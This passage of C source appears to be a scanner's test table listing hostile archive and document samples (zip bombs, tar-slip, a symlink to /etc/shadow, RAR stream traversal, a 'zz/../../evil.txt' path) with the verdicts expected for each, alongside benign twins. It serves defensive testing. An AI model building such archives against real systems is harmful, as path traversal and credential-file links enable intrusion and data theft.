	{"entity.svg", p_svg_entity, "", "svg", "html.script", "block", "a DTD entity that expands to <script>"},
	{"entity-twin.svg", p_svg_entity_twin, "", "svg", "", "allow", "a DTD entity that expands to a name"},
	{"entity-href.svg", p_svg_entity_attr, "", "svg", "html.script", "block", "a DTD entity that expands to a javascript: href"},
	{"laughs.svg", p_svg_laughs, "", "svg", "bomb.xml", "block", "billion laughs"},
	{"laughs-twin.svg", p_svg_laughs_twin, "", "svg", "", "allow", "a hundred laughs"},
	{"many-attrs.html", p_many_attrs, "", "html", "html.script", "block", "a handler past the 512 attributes kept"},
	{"many-attrs-twin.html", p_many_attrs_twin, "", "html", "", "allow", "100 harmless attributes"},
	{"big-srcdoc.html", p_big_srcdoc, "", "html", "html.script", "block", "a srcdoc past the 1 MiB kept"},
	{"big-image.html", p_big_image, "", "html", "", "allow", "a 2 MiB inline image: cut, harmless"},
	{"docs-twin.zip", p_zip_page_twin, "", "zip", "", "allow", "the same page without script"},
	{"overlap.zip", a_zip_overlap, "", "zip", "zip.overlap", "block",
	 "entries sharing data: the shared bytes are judged once (text named .bin)"},
	{"prepended.zip", a_zip_prepended, "", "shell", "container.prepended exec.script type.mismatch type.polyglot",
	 "block", "a shell script with a ZIP behind it"},
	{"badcrc.zip", a_zip_badcrc, "", "zip", "container.corrupt", "warn", "stored data that fails its CRC"},
	{"trailing.zip", a_zip_trailing, "", "zip", "container.trailing", "allow", "bytes after the end record"},
	{"log.zip", a_zip_log, "", "zip", "", "allow", "a 4 MB log, highly compressible: not a bomb"},
	{"nested.zip", a_zip_nested, "", "zip", "exec.script", "block", "zip > zip > .js"},
	{"deep.zip", a_zip_deep, "", "zip", "bomb.depth", "block", "ten ZIPs deep"},
	{"many.zip", a_zip_many, "--max-entries 100", "zip", "bomb.count", "block", "150 entries, limit 100"},
	{"bomb-nested.zip", a_bomb_nested, "", "zip", "bomb.ratio", "block", "40 GB of zeros in ten .zst files"},
	{"bomb-overlap.zip", a_bomb_overlap, "", "zip", "zip.overlap", "block", "250 entries on one kernel"},
	{"slip.tar", a_tar_slip, "", "tar", "path.traversal", "block", "tar-slip"},
	{"absolute.tar", a_tar_abs, "", "tar", "path.absolute", "block", "an absolute tar path"},
	{"links-ok.tar", a_tar_ok, "", "tar", "", "allow", "in-tree symlinks and a hard link"},
	{"symlink.tar", a_tar_symlink, "", "tar", "link.escape", "block", "a symlink to /etc/shadow"},
	{"hardlink.tar", a_tar_hardlink, "", "tar", "link.escape", "block", "a hard link out of the folder"},
	{"device.tar", a_tar_device, "", "tar", "entry.special", "block", "a block device"},
	{"fifo.tar", a_tar_fifo, "", "tar", "entry.special", "block", "a FIFO"},
	{"setuid.tar", a_tar_setuid, "", "tar", "entry.setid", "block", "a setuid file"},
	{"through.tar", a_tar_through, "", "tar", "link.escape link.through", "block", "lib -> /usr/lib, then lib/libc.so.6"},
	{"gnu-long.tar", a_tar_gnu_long, "", "tar", "path.traversal", "block", "traversal in a GNU long name"},
	{"pax.tar", a_tar_pax, "", "tar-pax", "path.traversal", "block", "traversal in a pax path record"},
	{"corrupt.tar", a_tar_corrupt, "", "tar", "container.corrupt", "warn", "a bad header checksum"},
	{"lnk.tgz", a_tgz_lnk, "", "gzip", "exec.shortcut", "block", "gzip > tar > .lnk"},
	{"romcom.rar", a_rar5_romcom, "", "rar5", "exec.shortcut path.ads path.traversal", "block",
	 "CVE-2025-8088: stream names that climb out of the folder"},
	{"cv-sfx.exe", a_sfx_rar, "", "pe32-exe",
	 "container.prepended exec.native exec.shortcut path.ads path.traversal type.polyglot", "block",
	 "a self-extracting RAR behind a PE stub, walked from the end of the image"},
	{"zone.rar", a_rar5_zone, "", "rar5", "stream.ntfs", "allow", "a benign Zone.Identifier stream"},
	{"slip5.rar", a_rar5_slip, "", "rar5", "exec.script path.traversal", "block", "RAR5 path traversal"},
	{"encrypted.rar", a_rar5_encrypted, "", "rar5", "container.encrypted", "warn", "RAR5 encrypted headers"},
	{"stm4.rar", a_rar4_stm, "", "rar4", "exec.shortcut path.ads path.traversal", "block",
	 "RAR4 NEWSUB STM with a UTF-16 name"},
	{"slip4.rar", a_rar4_slip, "", "rar4", "exec.script path.traversal", "block", "RAR4 Windows-host traversal"},
	{"trailing-empty.rar", a_rar5_trailing_empty, "", "rar5", "container.corrupt", "warn",
	 "a compressed entry no decoder accepts, then a compressed empty one: the first is still decoded (and fails)"},
	{"ok4.rar", a_rar4_ok, "", "rar4", "", "allow", "RAR4 with a backslash directory"},
	{"ok.cpio", a_cpio_ok, "", "cpio", "", "allow", "a cpio with a folder, a file and an in-tree symlink"},
	{"slip.cpio", a_cpio_slip, "", "cpio", "path.traversal", "block", "cpio traversal, read in a broker worker"},
	{"hostile.cpio", a_cpio_hostile, "", "cpio", "link.escape sig.eicar", "block",
	 "EICAR and an escaping symlink, read by libarchive in a sandboxed worker"},
	{"nested.cpio", a_cpio_nested, "", "cpio", "path.traversal", "block",
	 "cpio > cpio > traversal: a worker for each level"},
	{"flood.zip", a_zip_flood, "", "zip", "limit.findings path.traversal sig.eicar type.mismatch", "block",
	 "4 100 PNGs named .jpg (low findings) fill the report, then zz/../../evil.txt holding EICAR"},
	{"flood-deep.zip", a_zip_flood_deep, "", "zip", "limit.findings sig.eicar type.mismatch", "block",
	 "10 000 low findings, then one high at every nesting depth 1 to 4"},
	{"flood-twin.zip", a_zip_flood_twin, "", "zip", "type.mismatch", "allow",
	 "the benign twin: 4 000 PNGs named .jpg, under the report's cap, nothing else"},
};
const size_t nscenarios = sizeof scenarios / sizeof scenarios[0];
